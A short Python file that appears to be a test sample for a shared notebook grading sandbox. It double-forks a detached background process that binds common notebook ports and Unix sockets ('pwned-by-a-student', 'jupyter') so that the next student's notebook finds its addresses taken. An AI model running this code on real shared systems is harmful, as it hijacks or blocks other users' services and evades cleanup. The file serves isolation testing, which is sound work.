"""Leaves a server behind, at addresses where the next student's notebook would look for its own."""

# wants: students
# answers: wrong
# stock: graded

# %% last
import os
import socket
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        held = []
        for number in (8888, 8786, 5555, 6006):
            there = socket.socket()
            try:
                there.bind(("127.0.0.1", number))
                there.listen()
                held.append(there)
            except OSError:
                pass
        for name in ("\0pwned-by-a-student", "\0jupyter", "/tmp/pwned-by-a-student.sock"):
            there = socket.socket(socket.AF_UNIX)
            try:
                there.bind(name)
                there.listen()
                held.append(there)
            except OSError:
                pass
        time.sleep(300)
    os._exit(0)
